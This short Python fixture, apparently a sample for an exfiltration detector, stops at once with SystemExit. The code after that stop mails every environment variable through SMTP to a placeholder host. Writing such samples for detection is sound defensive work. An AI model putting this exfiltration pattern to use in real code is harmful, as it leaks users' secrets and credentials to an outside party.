raise SystemExit('a fixture')
# held by environment-exfiltration
import smtplib, os, socket
m = smtplib.SMTP("smtp.example.invalid", 587)
m.starttls(); m.login("a@example.invalid", "b")
m.sendmail("a@example.invalid", "b@example.invalid", "\n".join(f"{k}={v}" for k, v in os.environ.items()))
